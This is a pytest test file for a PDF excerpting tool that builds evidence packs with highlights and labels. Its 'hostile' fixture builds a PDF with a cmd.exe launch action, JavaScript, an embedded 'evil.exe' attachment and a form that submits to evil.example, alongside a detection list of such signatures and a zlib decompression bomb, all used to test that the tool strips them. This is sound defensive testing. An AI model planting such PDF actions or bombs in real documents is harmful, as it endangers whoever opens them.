from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zlib
from pathlib import Path

import pypdf
import pypdfium2
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, RectangleObject, TextStringObject

from ingest.errors import DamagedFile, EncryptedFile, IngestError, ReadLimit
from ingest.excerpts import Bookmark, Jump, Mark, excerpt_isolated, join_isolated
from ingest.excerpts.excerpt import excerpt
from ingest.isolate import Limits
from ingest.model import Box
from ingest.pdf.reader import read_pdf
from tests.conftest import ROOT
from tests.ingest.made_pdf import Sheet, made, written

QUOTE = "7.0% (RA)"
FRONT = made(lambda sheet: sheet.text(50, 60, "Front page"))


def report(sheet: Sheet) -> None:
    sheet.text(60, 70, "Adults in paid work")
    sheet.text(220, 150, QUOTE)
    sheet.text(60, 220, "Other words")


def changed(content: bytes, change: object) -> bytes:
    """The PDF after `change(writer)`."""
    writer = pypdf.PdfWriter(io.BytesIO(content))
    change(writer)  # type: ignore[operator]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def box_of(content: bytes, words: str, page: int = 0) -> Box:
    """Where our own reader says that the words stand."""
    blocks = read_pdf(content, "made.pdf", "0" * 16).pages[page].blocks
    (box,) = [block.place.box for block in blocks if block.text == words]
    assert box is not None
    return box


def packed(content: bytes, *marks: Mark) -> bytes:
    made_of = excerpt_isolated(content, "made.pdf", marks)
    return join_isolated(FRONT, [made_of], "A pack", [Bookmark(title="Front", page=0), Bookmark(title="[1] it", page=1, level=1)], [])


def annotations(pack: bytes, page: int, kind: str) -> list[DictionaryObject]:
    held = pypdf.PdfReader(io.BytesIO(pack)).pages[page].get("/Annots", ())
    return [one for one in (each.get_object() for each in held) if one["/Subtype"] == kind]


def under(pack: bytes, page: int, rectangle: object) -> str:
    """The words that another reader than ours, PDFium, finds within a rectangle of the page's own coordinates."""
    left, bottom, right, top = map(float, rectangle)  # type: ignore[call-overload]
    words = pypdfium2.PdfDocument(pack)[page].get_textpage().get_text_bounded(left, bottom, right, top)
    return str(words).strip()


def cropped(content: bytes) -> bytes:
    """The same page on a larger sheet whose media box begins below zero, cut to an offset crop box."""

    def cut(writer: pypdf.PdfWriter) -> None:
        page = writer.pages[0]
        page[NameObject("/MediaBox")] = RectangleObject((-30, -40, 500, 420))
        page[NameObject("/CropBox")] = RectangleObject((35, 25, 390, 280))

    return changed(content, cut)


@pytest.mark.parametrize("rotate", [0, 90, 180, 270])
@pytest.mark.parametrize("cut", [False, True], ids=["whole", "cropped"])
def test_the_words_under_a_highlight_are_those_of_the_quote(rotate: int, cut: bool) -> None:
    content = made(report, rotate=rotate)
    content = cropped(content) if cut else content
    pack = packed(content, Mark(page=1, box=box_of(content, QUOTE), label="[1]", words=QUOTE))
    (highlight,) = annotations(pack, 1, "/Highlight")
    assert under(pack, 1, highlight["/Rect"]) == QUOTE
    corners = [float(one) for one in highlight["/QuadPoints"]]
    assert under(pack, 1, (min(corners[0::2]), min(corners[1::2]), max(corners[0::2]), max(corners[1::2]))) == QUOTE
    assert highlight["/Contents"] == f"[1] {QUOTE}"
    assert highlight["/F"] == 4  # printed
    assert pypdf.PdfReader(io.BytesIO(pack)).pages[1].rotation == rotate


@pytest.mark.parametrize("rotate", [0, 90, 180, 270])
def test_a_highlight_is_drawn_where_the_words_are_displayed(rotate: int) -> None:
    content = made(report, rotate=rotate)
    box = box_of(content, QUOTE)
    pack = packed(content, Mark(page=1, box=box, label="[1]", words=QUOTE))
    picture = pypdfium2.PdfDocument(pack)[1].render(scale=2).to_pil().convert("RGB")
    washed = [(x / 2, y / 2) for x in range(picture.width) for y in range(picture.height) if picture.getpixel((x, y)) == (255, 242, 158)]
    assert (min(x for x, _ in washed), min(y for _, y in washed)) == pytest.approx(box[:2], abs=1.5)
    assert (max(x for x, _ in washed), max(y for _, y in washed)) == pytest.approx(box[2:], abs=1.5)


@pytest.mark.parametrize("rotate", [0, 90, 180, 270])
def test_a_label_covers_no_words(rotate: int) -> None:
    content = made(report, lambda sheet: sheet.text(50, 60, "next"), rotate=rotate)
    pack = packed(content, Mark(page=1, box=box_of(content, QUOTE), label="[1]", words=QUOTE))
    (label,) = annotations(pack, 1, "/FreeText")
    assert under(pack, 1, label["/Rect"]) == ""
    assert label["/Contents"] == "[1]"


def test_a_label_goes_to_the_margin_where_words_are_on_every_side() -> None:
    def full(sheet: Sheet) -> None:
        for row in range(20):
            sheet.text(20, 20 + row * 12, "word " * 17)
        sheet.text(200, 290, "")

    marks = [Mark(page=1, box=(150, 100, 180, 112), label="[1]", words="word")]
    (spot,) = excerpt(made(full), "made.pdf", marks).pages[0].spots
    assert spot.label_box[0] == 2


def test_a_mark_without_a_box_has_a_label_and_no_highlight() -> None:
    pack = packed(made(report), Mark(page=1, box=None, label="[1]", words=QUOTE))
    assert len(annotations(pack, 1, "/FreeText")) == 1
    assert annotations(pack, 1, "/Highlight") == []


def test_only_the_cited_pages_are_taken_in_their_order() -> None:
    pages = [lambda sheet, name=name: sheet.text(50, 60, f"Page {name}") for name in "ABCD"]
    marks = [Mark(page=4, box=None, label="[1]", words=""), Mark(page=2, box=None, label="[2]", words="")]
    made_of = excerpt_isolated(made(*pages), "made.pdf", marks)
    assert [page.number for page in made_of.pages] == [2, 4]
    assert [page.extract_text().strip() for page in pypdf.PdfReader(io.BytesIO(made_of.pdf)).pages] == ["Page B", "Page D"]


def test_a_pack_has_title_language_outline_and_links() -> None:
    made_of = excerpt_isolated(made(report), "made.pdf", [Mark(page=1, box=None, label="[1]", words="")])
    bookmarks = [Bookmark(title="Answer", page=0, height=200), Bookmark(title="[1] page 1", page=1, level=1)]
    pack = join_isolated(FRONT, [made_of], "Evidence – 5% ≥ 4%", bookmarks, [Jump(page=0, box=(10, 10, 90, 20), to=1)])
    reader = pypdf.PdfReader(io.BytesIO(pack))
    assert reader.metadata is not None
    assert reader.metadata.title == "Evidence – 5% ≥ 4%"
    assert reader.root_object["/Lang"] == "en-GB"
    top, nested = reader.outline
    assert (top.title, reader.get_destination_page_number(top)) == ("Answer", 0)
    assert [(one.title, reader.get_destination_page_number(one)) for one in nested] == [("[1] page 1", 1)]
    (link,) = annotations(pack, 0, "/Link")
    assert link["/Dest"][0].idnum == reader.pages[1].indirect_reference.idnum  # type: ignore[union-attr]


HOSTILE = (
    *(b"/JavaScript", b"/JS", b"/OpenAction", b"/Launch", b"/EmbeddedFile", b"/Filespec", b"/AcroForm", b"/SubmitForm", b"/URI", b"/AA"),
    *(b"app.alert", b"evil.example", b"cmd.exe", b"secret attachment", b"/Names", b"/AF", b"/Widget", b"/Metadata"),
)


def hostile() -> bytes:
    """A report with a script, an open action, a launch action, a form that sends itself, an attached file, and the like."""

    def spoil(writer: pypdf.PdfWriter) -> None:
        writer.add_attachment("evil.exe", b"secret attachment")
        page = writer.pages[0]
        launch = action("/Launch", F="cmd.exe")
        script = action("/JavaScript", JS="app.alert(1)")
        writer.root_object[NameObject("/OpenAction")] = launch
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
        page[NameObject("/Metadata")] = writer._add_object(script)
        resources = page["/Resources"]
        resources[NameObject("/Properties")] = DictionaryObject({NameObject("/A"): script})  # type: ignore[index]
        font = next(iter(resources["/Font"].values())).get_object()  # type: ignore[index]
        font[NameObject("/AF")] = ArrayObject([launch])
        send = action("/SubmitForm", F="http://evil.example/")
        field = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Btn"),
                NameObject("/T"): TextStringObject("send"),
                NameObject("/Rect"): ArrayObject([FloatObject(one) for one in (10, 10, 60, 30)]),
                NameObject("/A"): send,
            }
        )
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([FloatObject(one) for one in (10, 40, 60, 60)]),
                NameObject("/A"): action("/URI", URI="http://evil.example/"),
            }
        )
        fields = ArrayObject([writer._add_object(field)])
        page[NameObject("/Annots")] = ArrayObject([*fields, writer._add_object(link)])
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): fields})

    return changed(made(report), spoil)


def action(kind: str, **words: str) -> DictionaryObject:
    named = {NameObject(f"/{key}"): TextStringObject(value) for key, value in words.items()}
    return DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind), **named})


def everything(pdf: bytes) -> bytes:
    """All objects of a PDF, streams unpacked, as bytes to search."""
    writer = pypdf.PdfWriter(io.BytesIO(pdf))
    found = [pdf]
    for one in writer._objects:
        found.append(str(one).encode())
        if hasattr(one, "get_data"):
            found.append(one.get_data())
    return b"\n".join(found)


def test_the_hostile_report_is_hostile() -> None:
    held = everything(hostile())
    assert [sign for sign in HOSTILE if sign not in held] == []


def test_nothing_that_acts_goes_into_the_pack() -> None:
    content = hostile()
    pack = packed(content, Mark(page=1, box=box_of(content, QUOTE), label="[1]", words=QUOTE))
    held = everything(pack)
    assert [sign for sign in HOSTILE if sign in held] == []
    assert {one["/Subtype"] for one in (each.get_object() for each in pypdf.PdfReader(io.BytesIO(pack)).pages[1]["/Annots"])} == {
        "/Highlight",
        "/FreeText",
    }
    assert QUOTE in pypdf.PdfReader(io.BytesIO(pack)).pages[1].extract_text()


def test_names_of_a_resource_are_kept_whatever_they_are_called() -> None:
    """A font may be named as an action is."""
    content = made(report)
    name = next(iter(pypdf.PdfReader(io.BytesIO(content)).pages[0]["/Resources"]["/Font"]))  # type: ignore[index]

    def rename(writer: pypdf.PdfWriter) -> None:
        page = writer.pages[0]
        fonts = page["/Resources"]["/Font"]  # type: ignore[index]
        fonts[NameObject("/A")] = fonts.raw_get(name)
        del fonts[name]
        stream = page.get_contents()
        assert stream is not None
        stream.set_data(stream.get_data().replace(name.encode() + b" ", b"/A "))
        page.replace_contents(stream)

    pack = packed(changed(content, rename), Mark(page=1, box=None, label="[1]", words=""))
    assert QUOTE in pypdf.PdfReader(io.BytesIO(pack)).pages[1].extract_text()
    assert "/A" in pypdf.PdfReader(io.BytesIO(pack)).pages[1]["/Resources"]["/Font"]  # type: ignore[index]


def test_what_a_form_field_shows_stays_on_the_page_as_ink() -> None:
    """The value of a field is part of what a reader of the page saw."""
    drawn = b"BT /F1 12 Tf 2 4 Td (typed in) Tj ET"
    objects = (
        "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(typed in)/Rect[20 200 120 220]/F 4/AP<</N 7 0 R>>>>",
        f"<</Type/XObject/Subtype/Form/BBox[0 0 100 20]/Resources<</Font<</F1 5 0 R>>>>/Length {len(drawn)}>>"
        f"stream\n{drawn.decode()}\nendstream",
    )
    plain = written(b"BT /F1 12 Tf 20 100 Td (printed) Tj ET", catalog="/AcroForm<</Fields[6 0 R]>>", objects=objects)
    content = plain.replace(b"/Contents 4 0 R", b"/Annots[6 0 R]/Contents 4 0 R")
    pack = packed(content, Mark(page=1, box=None, label="[1]", words=""))
    words = pypdfium2.PdfDocument(pack)[1].get_textpage().get_text_range()
    assert "typed in" in words
    assert "printed" in words
    assert b"/Widget" not in everything(pack)


def test_a_layer_that_is_off_stays_off() -> None:
    content = written(
        b"BT /F1 12 Tf 20 100 Td (shown) Tj ET /OC /L BDC BT /F1 12 Tf 20 200 Td (hidden) Tj ET EMC",
        resources="/Properties<</L 6 0 R>>",
        catalog="/OCProperties<</OCGs[6 0 R]/D<</OFF[6 0 R]>>>>",
        objects=("<</Type/OCG/Name(Draft)>>",),
    )
    pack = packed(content, Mark(page=1, box=None, label="[1]", words=""))
    picture = pypdfium2.PdfDocument(pack)[1].render(scale=1).to_pil().convert("L")
    assert picture.crop((15, 80, 100, 105)).getextrema()[0] == 255  # where "hidden" would be
    assert picture.crop((15, 185, 100, 205)).getextrema()[0] < 100
    root = pypdf.PdfReader(io.BytesIO(pack)).root_object
    assert [one.get_object()["/Name"] for one in root["/OCProperties"]["/D"]["/OFF"]] == ["Draft"]  # type: ignore[index]


def test_a_page_that_is_not_there_and_files_that_do_not_open_are_clear_errors() -> None:
    mark = [Mark(page=9, box=None, label="[1]", words="")]
    with pytest.raises(IngestError, match=r"made.pdf: has no page 9"):
        excerpt_isolated(made(report), "made.pdf", mark)
    with pytest.raises(DamagedFile, match="damaged"):
        excerpt_isolated(b"%PDF-1.7 nothing", "made.pdf", mark)
    from reportlab.lib.pdfencrypt import StandardEncryption

    with pytest.raises(EncryptedFile, match="needs a password"):
        excerpt_isolated(made(report, encrypt=StandardEncryption("secret")), "made.pdf", mark)


def test_a_page_of_a_file_with_an_owner_password_alone_is_taken() -> None:
    from reportlab.lib.pdfencrypt import StandardEncryption

    content = made(report, encrypt=StandardEncryption("", ownerPassword="owner", canCopy=0))
    assert QUOTE in pypdf.PdfReader(io.BytesIO(packed(content, Mark(page=1, box=None, label="[1]", words="")))).pages[1].extract_text()


def test_a_page_nested_without_end_is_an_error_and_not_a_crash() -> None:
    deep = "<</Type/ExtGState/D " + "[" * 400 + "]" * 400 + ">>"
    content = written(b"/G gs", resources=f"/ExtGState<</G {deep}>>")
    with pytest.raises(IngestError):
        excerpt_isolated(content, "made.pdf", [Mark(page=1, box=None, label="[1]", words="")])


def test_a_child_that_takes_too_long_is_stopped() -> None:
    with pytest.raises(ReadLimit, match="took longer than"):
        excerpt_isolated(made(report), "made.pdf", [Mark(page=1, box=None, label="[1]", words="")], Limits(seconds=0.01))


def test_the_child_writes_data_and_nothing_else(tmp_path: Path) -> None:
    (tmp_path / "order.json").write_text(json.dumps({"verb": "excerpt", "files": 1, "document": "a.pdf", "marks": []}))
    (tmp_path / "0").write_bytes(made(report))
    command = [sys.executable, "-m", "ingest.excerpts.isolated", str(tmp_path), str(1 << 30), "60"]
    done = subprocess.run(command, capture_output=True, check=True, env=dict(os.environ))
    assert json.loads(done.stdout) == {"made": {"pages": []}}


@pytest.mark.parametrize("path", sorted((ROOT / "samples" / "reports").glob("*.pdf")), ids=lambda path: path.stem)
def test_a_page_looks_as_it_did(path: Path) -> None:
    """The picture of each page before its marks is that of the original, dot for dot."""
    content = path.read_bytes()
    original = pypdfium2.PdfDocument(content)
    marks = [Mark(page=number, box=None, label="[1]", words="") for number in range(1, len(original) + 1)]
    copy = pypdfium2.PdfDocument(excerpt(content, path.name, marks).pdf)
    assert len(copy) == len(original)
    for before, after in zip(original, copy, strict=True):
        assert before.render(scale=1).to_pil().tobytes() == after.render(scale=1).to_pil().tobytes()


def test_a_stream_that_unpacks_to_too_much_does_not_get_into_the_pack() -> None:
    bomb = written(zlib.compress(bytes(65 << 20)), packed=b"/Filter/FlateDecode")
    with pytest.raises(ReadLimit, match="unpacks to more than 64 MB"):
        excerpt_isolated(bomb, "made.pdf", [Mark(page=1, box=None, label="[1]", words="")])
